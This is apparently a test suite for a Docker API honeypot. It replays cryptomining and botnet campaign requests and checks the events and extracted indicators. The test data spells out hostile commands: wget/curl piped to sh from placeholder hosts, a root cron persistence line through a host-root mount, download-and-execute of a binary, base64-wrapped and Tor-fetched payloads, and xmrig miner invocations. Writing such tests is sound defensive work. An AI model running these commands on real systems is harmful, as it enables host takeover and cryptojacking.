// Replays of the observed campaigns' request sequences over raw HTTP (curl/Python-style clients), with
// example.invalid hosts, TEST-NET addresses and a fake wallet; each must yield the right events and indicators.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { commands, FAKE_XMR_WALLET, http, indicators, startTestTrap, until, type TestTrap } from './helpers.js';

let t: TestTrap;
beforeEach(async () => { t = await startTestTrap(); });
afterEach(async () => {
  expect(t.warnings).toEqual([]);
  await t.close();
});

describe('trap: campaign replays', () => {
  it('Kinsing-style dropper: ubuntu, apt, cron, d.sh piped to sh, tail -f', async () => {
    const cmd = 'apt-get update && apt-get install -y wget cron; service cron start; '
      + 'wget -q -O - http://198.51.100.23/d.sh | sh; tail -f /dev/null';
    const pull = await http(t.port, 'POST', '/v1.40/images/create?fromImage=ubuntu&tag=latest');
    expect(pull.status).toBe(200);
    const lines = pull.body.toString().trim().split(/\r?\n/).map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines[0]).toMatchObject({ status: 'Pulling from library/ubuntu', id: 'latest' });
    expect(lines.at(-1)?.status).toBe('Status: Downloaded newer image for ubuntu:latest');
    const created = await http(t.port, 'POST', '/v1.40/containers/create', { Image: 'ubuntu', Cmd: ['/bin/bash', '-c', cmd] });
    expect(created.status).toBe(201);
    const id = String((created.json() as { Id: string }).Id);
    expect(id).toMatch(/^[0-9a-f]{64}$/);
    expect((await http(t.port, 'POST', `/v1.40/containers/${id}/start`)).status).toBe(204);
    expect((await http(t.port, 'POST', `/v1.40/containers/${id}/start`)).status).toBe(304);
    const ps = (await http(t.port, 'GET', '/v1.40/containers/json')).json() as Array<{ Id: string; State: string; Status: string }>;
    expect(ps.find((c) => c.Id === id)).toMatchObject({ State: 'running' });
    const create = t.eventsOf('trap.container.create_attempted');
    expect(create).toHaveLength(1);
    expect(create[0]).toMatchObject({ image: 'ubuntu', outcome: 'created', container: id, cmd: ['/bin/bash', '-c', cmd] });
    expect(t.eventsOf('trap.image.pull_attempted')[0]).toMatchObject({ image: 'ubuntu:latest', outcome: 'pulled' });
    const cmds = commands(t);
    expect(cmds).toEqual(expect.arrayContaining(['apt-get update', 'apt-get install -y wget cron', 'wget -q -O - http://198.51.100.23/d.sh', 'tail -f /dev/null']));
    expect(indicators(t, 'url')).toContain('http://198.51.100.23/d.sh');
    expect(indicators(t, 'ipv4')).toContain('198.51.100.23');
    expect(indicators(t, 'image')).toContain('ubuntu:latest');
  });

  it('Metasploit-style: Cmd as a string, host root bind, privileged, userns host', async () => {
    await http(t.port, 'POST', '/images/create?fromImage=alpine&tag=latest');
    const body = { Image: 'alpine:latest', Cmd: 'echo "* * * * * root sh -c \'curl -s http://203.0.113.9/p|sh\'" >> /mnt/x1/etc/cron.d/x1',
      Entrypoint: ['/bin/sh', '-c'], HostConfig: { Binds: ['/:/mnt/x1'], Privileged: true, UsernsMode: 'host' } };
    const r = await http(t.port, 'POST', '/containers/create', body, { 'Content-Type': 'application/json' });
    expect(r.status).toBe(201);
    const ev = t.eventsOf('trap.container.create_attempted')[0];
    expect(ev).toMatchObject({ binds: ['/:/mnt/x1'], privileged: true, entrypoint: ['/bin/sh', '-c'], namespaces: { userns: 'host' } });
    const id = (r.json() as { Id: string }).Id;
    const inspect = (await http(t.port, 'GET', `/containers/${id.slice(0, 12)}/json`)).json() as {
      HostConfig: Record<string, unknown>; Mounts: unknown[]; Config: Record<string, unknown> };
    expect(inspect.HostConfig.Binds).toEqual(['/:/mnt/x1']);
    expect(inspect.HostConfig.Privileged).toBe(true);
    expect(inspect.Mounts[0]).toMatchObject({ Type: 'bind', Source: '/', Destination: '/mnt/x1' });
    expect(inspect.Config.Cmd).toEqual([body.Cmd]);
    expect(indicators(t, 'url')).toContain('http://203.0.113.9/p');
  });

  it('refuses what dockerd refuses: bad reference, missing image, no such image, name conflict', async () => {
    expect((await http(t.port, 'POST', '/containers/create', { Image: 'Bad:Ref' })).status).toBe(400);
    expect((await http(t.port, 'POST', '/containers/create', { Cmd: ['sh'] })).status).toBe(400);
    const missing = await http(t.port, 'POST', '/containers/create', { Image: 'pocosow/centos:7.6.1810' });
    expect(missing.status).toBe(404);
    expect(missing.body.toString()).toBe('{"message":"No such image: pocosow/centos:7.6.1810"}\n');
    await http(t.port, 'POST', '/images/create?fromImage=pocosow%2Fcentos&tag=7.6.1810');
    expect((await http(t.port, 'POST', '/containers/create?name=worm', { Image: 'pocosow/centos:7.6.1810' })).status).toBe(201);
    const dup = await http(t.port, 'POST', '/containers/create?name=worm', { Image: 'pocosow/centos:7.6.1810' });
    expect(dup.status).toBe(409);
    expect((await http(t.port, 'POST', '/containers/create?name=-x', { Image: 'pocosow/centos:7.6.1810' })).status).toBe(400);
    expect(t.eventsOf('trap.container.create_attempted').map((e) => e.outcome))
      .toEqual(['invalid_reference', 'invalid_reference', 'no_such_image', 'created', 'name_conflict', 'invalid_name']);
  });

  it('worm-style rival cleanup: lists, kills and removes the decoy miner container', async () => {
    await t.close();
    t = await startTestTrap({ decoys: { containers: [{ name: 'xmrig-miner', image: 'rival/xmrig:latest', cmd: ['xmrig', '-o', 'stratum+tcp://rival-pool.example.invalid:3333'] }] } });
    const list = (await http(t.port, 'GET', '/containers/json?all=1')).json() as Array<{ Id: string; Image: string; Command: string }>;
    const rival = list.find((c) => c.Command.includes('xmrig'));
    expect(rival).toBeDefined();
    expect((await http(t.port, 'POST', `/containers/${rival!.Id}/kill`)).status).toBe(204);
    expect((await http(t.port, 'POST', `/containers/${rival!.Id}/kill`)).status).toBe(409);
    expect((await http(t.port, 'DELETE', `/containers/${rival!.Id}?force=1`)).status).toBe(204);
    expect((await http(t.port, 'GET', `/containers/${rival!.Id}/json`)).status).toBe(404);
    expect((await http(t.port, 'DELETE', '/images/rival%2Fxmrig:latest')).status).toBe(200);
    const routes = t.eventsOf('trap.request.received').map((e) => e.route);
    expect(routes).toEqual(['container.list', 'container.kill', 'container.kill', 'container.delete', 'container.inspect', 'image.delete']);
  });

  it('exec into existing containers (XORDDoS-style) records each command', async () => {
    const list = (await http(t.port, 'GET', '/containers/json')).json() as Array<{ Id: string }>;
    for (const c of list) {
      const e = await http(t.port, 'POST', `/containers/${c.Id}/exec`, { AttachStdout: true, AttachStderr: true, Cmd: ['sh', '-c', 'wget http://192.0.2.44/xd.x86 -O /tmp/xd && chmod +x /tmp/xd && /tmp/xd'] });
      expect(e.status).toBe(201);
      const execId = (e.json() as { Id: string }).Id;
      const start = await http(t.port, 'POST', `/exec/${execId}/start`, { Detach: true, Tty: false });
      expect(start.status).toBe(200);
      expect((await http(t.port, 'GET', `/exec/${execId}/json`)).json()).toMatchObject({ ContainerID: c.Id, Running: false, ExitCode: 0 });
    }
    const execs = t.eventsOf('trap.exec.create_attempted');
    expect(execs).toHaveLength(list.length);
    expect(execs.every((e) => e.outcome === 'created' && e.decoy === true)).toBe(true);
    expect(commands(t).filter((c) => c === 'wget http://192.0.2.44/xd.x86 -O /tmp/xd')).toHaveLength(list.length);
    expect(indicators(t, 'url')).toEqual(['http://192.0.2.44/xd.x86']);
  });

  it('miner image with pool and wallet in its entrypoint', async () => {
    await http(t.port, 'POST', '/images/create?fromImage=miner.example.invalid%2Fxmr&tag=v6');
    const r = await http(t.port, 'POST', '/containers/create?name=kworker', {
      Image: 'miner.example.invalid/xmr:v6',
      Entrypoint: ['/xmrig', '-o', 'stratum+tcp://pool.example.invalid:3333', '-u', FAKE_XMR_WALLET, '-p', 'x', '--donate-level=0'],
      HostConfig: { RestartPolicy: { Name: 'always' } },
    });
    expect(r.status).toBe(201);
    expect(t.eventsOf('trap.container.create_attempted')[0]).toMatchObject({ restart_policy: 'always', name: 'kworker' });
    expect(indicators(t, 'wallet')).toEqual([FAKE_XMR_WALLET]);
    expect(indicators(t, 'pool')).toContain('stratum+tcp://pool.example.invalid:3333');
    expect(indicators(t, 'image')).toContain('miner.example.invalid/xmr:v6');
  });

  it('base64-wrapped payload: commands and indicators come out of the decoded text', async () => {
    const inner = `curl -fsSL http://payload.example.invalid/init.sh | sh; nohup ./xmrig -o stratum+tcp://198.51.100.77:4444 -u ${FAKE_XMR_WALLET} &`;
    const b64 = Buffer.from(inner).toString('base64');
    await http(t.port, 'POST', '/images/create?fromImage=alpine&tag=latest');
    const r = await http(t.port, 'POST', '/containers/create', { Image: 'alpine', Cmd: ['sh', '-c', `echo ${b64} | base64 -d | sh`] });
    expect(r.status).toBe(201);
    const decoded = t.eventsOf('trap.command.observed').filter((e) => e.decoded === true).map((e) => String(e.command));
    expect(decoded).toContain('curl -fsSL http://payload.example.invalid/init.sh');
    const url = t.eventsOf('trap.indicator.extracted').find((e) => e.value === 'http://payload.example.invalid/init.sh');
    expect(url).toMatchObject({ type: 'url', decoded: true });
    expect(indicators(t, 'wallet')).toEqual([FAKE_XMR_WALLET]);
    expect(indicators(t, 'ipv4')).toContain('198.51.100.77');
  });

  it('Tor-enabled variant: onion host, IPv6 literal and a payload hash become indicators', async () => {
    const onion = 'abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuv.onion';
    const hash = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
    await http(t.port, 'POST', '/images/create?fromImage=alpine&tag=latest');
    const cmd = `apk add --no-cache tor curl; (tor &); sleep 30; curl -s --socks5-hostname 127.0.0.1:9050 http://${onion}/x.sh | sh; `
      + `wget -q http://[2001:db8::5]/m -O /tmp/m && echo "${hash}  /tmp/m" | sha256sum -c && /tmp/m`;
    const r = await http(t.port, 'POST', '/containers/create', { Image: 'alpine', Cmd: ['sh', '-c', cmd], HostConfig: { Binds: ['/:/hostroot'], AutoRemove: true } });
    expect(r.status).toBe(201);
    expect(t.eventsOf('trap.container.create_attempted')[0]).toMatchObject({ auto_remove: true, binds: ['/:/hostroot'] });
    expect(indicators(t, 'onion')).toContain(onion);
    expect(indicators(t, 'ipv6')).toContain('2001:db8::5');
    expect(indicators(t, 'hash')).toContain(hash);
  });

  it('wait is held open until the emulated process exits, concurrently with start', async () => {
    await http(t.port, 'POST', '/images/create?fromImage=alpine');
    const id = ((await http(t.port, 'POST', '/containers/create', { Image: 'alpine', Cmd: ['echo', 'hi'] })).json() as { Id: string }).Id;
    let waited = false;
    const wait = http(t.port, 'POST', `/containers/${id}/wait?condition=next-exit`).then((r) => { waited = true; return r; });
    await until(() => t.eventsOf('trap.request.received').some((e) => e.route === 'container.wait'));
    expect(waited).toBe(false);
    expect((await http(t.port, 'POST', `/containers/${id}/start`)).status).toBe(204);
    const w = await wait;
    expect(w.json()).toEqual({ Error: null, StatusCode: 0 });
    const logs = await http(t.port, 'GET', `/containers/${id}/logs?stdout=1`);
    expect(logs.body.subarray(8).toString()).toBe('hi\n');
    expect(logs.body[0]).toBe(1);
  });
});
